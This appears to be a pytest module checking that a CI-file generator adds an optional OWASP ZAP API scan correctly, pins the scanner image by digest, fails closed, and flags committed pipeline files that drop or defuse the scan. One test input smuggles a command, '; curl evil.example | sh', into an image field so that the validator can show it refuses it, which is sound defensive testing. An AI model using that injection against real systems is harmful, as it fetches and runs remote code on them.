"""[serve.dast].zap: the optional OWASP ZAP API scan in each CI file's deploy job.

Off by default (the committed files are unchanged); on, every deploy job serves the model it
has just signed on loopback, scans it from its OpenAPI document and only then promotes. The real
linters accept the files with the scan: they run in test_github.py, test_gitlab.py and
test_jenkins.py beside the other variants (``zap_on`` below), once per tool per module.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from gates import ci
from gates.ci.github import ZAP_API_SCAN, GithubRenderer
from gates.ci.gitlab import GitlabRenderer
from gates.ci.interface import CiPlan, ZapScan
from gates.ci.jenkins import JenkinsRenderer
from tests.conftest import REPO, run_module
from tests.gates.ci.conftest import ZAP_ON, policy_with, zap_on

IMAGE_DIGEST = "8d387b1a63e3425beef4846e39719f5af2a787753af2d8b6558c6257d7a577a2"
TARGET = "http://127.0.0.1:8080/openapi.json"
SIGN = "python -m gates run artifacts gate"
PROMOTE = "python -m gates deploy"
DOCKER_RUN = 'docker run --rm --network host "$image@$digest" zap-api-scan.py'


def test_off_by_default_and_the_committed_files_are_byte_for_byte_unchanged():
    from pipeline.config import load_policy

    assert ZapScan.from_policy(load_policy(REPO / "policy.toml")) is None
    assert ci.zap_scan(REPO) is None
    assert ci.render_all(zap=None) == ci.render_all()
    assert ci.check(REPO) == ()
    for text in ci.render_all().values():
        assert "zap" not in text.lower()


def test_the_policy_switch_gives_the_pinned_image_and_the_service_port():
    scan = zap_on()
    assert scan.image == f"ghcr.io/zaproxy/zaproxy:stable@sha256:{IMAGE_DIGEST}"
    assert scan.port == 8080
    assert scan.target == TARGET
    assert ZapScan.from_policy(policy_with("\n[serve.dast]\nzap = false\n")) is None


@pytest.mark.parametrize(
    "image",
    [
        "ghcr.io/zaproxy/zaproxy:stable",  # a tag alone can be moved
        "ghcr.io/zaproxy/zaproxy@sha256:1234",  # not a full digest
        "ghcr.io/zaproxy/zaproxy:stable@sha256:" + "A" * 64,  # not lower-case hex
        "ghcr.io/zaproxy/zaproxy:stable@sha256:" + "0" * 64 + "; curl evil.example | sh",
    ],
    ids=["tag-only", "short-digest", "upper-hex", "shell-injection"],
)
def test_a_zap_image_not_pinned_by_digest_is_refused(tmp_path, image):
    (tmp_path / "policy.toml").write_text(
        (REPO / "policy.toml").read_text(encoding="utf-8") + f'{ZAP_ON}zap_image = "{image}"\n',
        encoding="utf-8",
    )
    result = run_module("gates", "ci", "render", "--check", "--root", str(tmp_path), cwd=tmp_path)
    assert result.returncode == 2
    assert "policy.toml: serve.dast.zap_image" in result.stderr
    assert "Traceback" not in result.stderr


def test_github_scans_in_the_deploy_job_after_signing_and_before_promoting():
    workflow = yaml.safe_load(GithubRenderer().render(CiPlan.from_specs(zap=zap_on())))
    deploy = workflow["jobs"]["deploy"]
    steps = deploy["steps"]
    runs = [step.get("run", "") for step in steps]
    sign = runs.index(SIGN)
    (start,) = [i for i, run in enumerate(runs) if "python -m gates serve" in run]
    pinned = f"{ZAP_API_SCAN.repo}@{ZAP_API_SCAN.sha}"
    (scan,) = [i for i, step in enumerate(steps) if step.get("uses") == pinned]
    (stop,) = [i for i, step in enumerate(steps) if step["name"] == "Stop the service"]
    promote = runs.index(PROMOTE)
    assert sign < start < scan < stop < promote
    assert "--host 127.0.0.1 --port 8080" in runs[start]
    assert "/readyz" in runs[start]
    assert "--retry 30" in runs[start]
    assert steps[stop]["if"] == "always()"
    # The promotion runs only when every step before it succeeded: the default, kept.
    assert "if" not in steps[promote]
    assert "continue-on-error" not in steps[scan]
    assert ZAP_API_SCAN.uses == (
        "zaproxy/action-api-scan@5158fe4d9d8fcc75ea204db81317cce7f9e5453d # v0.10.0"
    )
    assert steps[scan]["with"] == {
        "target": TARGET,
        "format": "openapi",
        "docker_name": f"ghcr.io/zaproxy/zaproxy:stable@sha256:{IMAGE_DIGEST}",
        "fail_action": True,
        "allow_issue_writing": False,
        "artifact_name": "zap-api-scan",
    }
    # No issue is written: the job keeps its one permission.
    assert deploy["permissions"] == {"contents": "read"}


def test_gitlab_scans_in_the_deploy_job_after_signing_and_before_promoting():
    pipeline = yaml.safe_load(GitlabRenderer().render(CiPlan.from_specs(zap=zap_on())))
    script = pipeline["deploy"]["script"]
    (scan,) = [i for i, line in enumerate(script) if "zap-api-scan.py" in line]
    assert script.index(SIGN) < scan < script.index(PROMOTE)
    assert script[scan] == zap_on().shell()
    assert [job for job, body in pipeline.items() if "zap-api-scan.py" in str(body)] == ["deploy"]


def test_jenkins_scans_in_the_deploy_stage_after_signing_and_before_promoting():
    text = JenkinsRenderer().render(CiPlan.from_specs(zap=zap_on()))
    deploy = text[text.index("stage('deploy')") :]
    assert deploy.index(SIGN) < deploy.index(DOCKER_RUN) < deploy.index(PROMOTE)
    assert text.count("zap-api-scan.py") == 1


def test_the_shared_scan_script_fails_closed():
    script = zap_on().shell()
    assert script.startswith("(\n")
    assert script.endswith(")\n")
    lines = [line.strip() for line in script.splitlines()]
    # No docker: a clear error, not a skipped scan. A service that never gets ready: its log.
    assert lines[1:5] == [
        "if ! command -v docker >/dev/null; then",
        'echo "error: [serve.dast].zap: no docker here for the ZAP API scan" >&2',
        "exit 1",
        "fi",
    ]
    assert lines[5] == 'log="reports/zap-serve.log"'
    assert lines[12:15] == ['cat "$log"', "exit 1", "fi"]
    # The scan is the subshell's last command, so its exit code (1 FAIL, 2 WARN, 3 error) is the
    # subshell's; nothing swallows it.
    assert lines[15:19] == [
        f'target="{TARGET}"',
        'image="ghcr.io/zaproxy/zaproxy:stable"',
        f'digest="sha256:{IMAGE_DIGEST}"',
        f'{DOCKER_RUN} -t "$target" -f openapi',
    ]
    assert lines[19] == ")"


# -- planted: the policy asks for the scan, the committed file dropped or defused it --------------

WORKFLOW = ".github/workflows/pipeline.yml"


def _cut(text: str, start: str, end: str) -> str:
    """``text`` without the part from ``start`` up to (not including) ``end``."""
    head, tail = text.index(start), text.index(end)
    assert head < tail
    return text[:head] + text[tail:]


PLANTED = {
    "github-scan-dropped": (
        WORKFLOW,
        lambda t: _cut(
            t,
            "      - name: Start the verified service",
            "      - name: Verify the signed attestation and promote",
        ),
    ),
    "github-fail-action-off": (
        WORKFLOW,
        lambda t: t.replace("fail_action: true", "fail_action: false"),
    ),
    "github-scan-continues-on-error": (
        WORKFLOW,
        lambda t: t.replace(
            "        uses: zaproxy/", "        continue-on-error: true\n        uses: zaproxy/"
        ),
    ),
    "gitlab-scan-dropped": (
        ".gitlab-ci.yml",
        lambda t: _cut(t, "    # OWASP ZAP API scan", f"    - {PROMOTE}"),
    ),
    "gitlab-scan-swallowed": (
        ".gitlab-ci.yml",
        lambda t: t.replace(" -f openapi\n", " -f openapi || true\n"),
    ),
    "jenkins-scan-dropped": (
        "Jenkinsfile",
        lambda t: _cut(t, "# OWASP ZAP API scan", PROMOTE),
    ),
}


@pytest.fixture(scope="module")
def zap_project(tmp_path_factory) -> Path:
    """A project whose policy turns the scan on, with the files `ci render` writes for it."""
    root = tmp_path_factory.mktemp("zap")
    (root / "policy.toml").write_text(
        (REPO / "policy.toml").read_text(encoding="utf-8") + ZAP_ON, encoding="utf-8"
    )
    written = run_module("gates", "ci", "render", "--root", str(root), cwd=root)
    assert written.returncode == 0, written.stdout + written.stderr
    return root


def test_ci_render_writes_the_scan_the_policy_asks_for_and_check_is_clean(zap_project):
    for relative in (WORKFLOW, ".gitlab-ci.yml", "Jenkinsfile"):
        assert "zap-api-scan" in (zap_project / relative).read_text(encoding="utf-8"), relative
    checked = run_module("gates", "ci", "render", "--check", cwd=zap_project)
    assert checked.returncode == 0, checked.stdout
    # The committed files (no scan) are drift under this policy.
    assert ci.check(zap_project, zap=zap_on()) == ()
    assert {d.path for d in ci.check(REPO, zap=zap_on())} == {
        WORKFLOW,
        ".gitlab-ci.yml",
        "Jenkinsfile",
    }


@pytest.mark.parametrize("case", list(PLANTED))
def test_a_committed_file_without_the_scan_fails_ci_render_check(zap_project, tmp_path, case):
    relative, edit = PLANTED[case]
    root = tmp_path / "project"
    shutil.copytree(zap_project, root)
    path = root / relative
    original = path.read_text(encoding="utf-8")
    edited = edit(original)
    assert edited != original, case
    path.write_text(edited, encoding="utf-8")
    result = run_module("gates", "ci", "render", "--check", cwd=root)
    assert result.returncode == 1, result.stdout
    assert f"+++ {relative} (rendered)" in result.stdout
    # The drift may come from the policy ([serve.dast], [keys]), not the registry: say both.
    assert f"{relative}: differ from what the gate registry and policy.toml render" in result.stdout


def test_the_scan_script_without_docker_stops_with_a_clear_error(tmp_path):
    # Really run by sh, on a PATH without docker: exit 1 and the reason, before any service.
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for name in ("sh", "echo", "cat"):
        found = shutil.which(name)
        assert found is not None
        (bin_dir / name).symlink_to(found)
    result = subprocess.run(
        [str(bin_dir / "sh"), "-e", "-c", zap_on().shell()],
        cwd=tmp_path,
        env={"PATH": str(bin_dir)},
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert result.returncode == 1
    assert result.stderr == "error: [serve.dast].zap: no docker here for the ZAP API scan\n"
    assert not (tmp_path / "reports").exists()
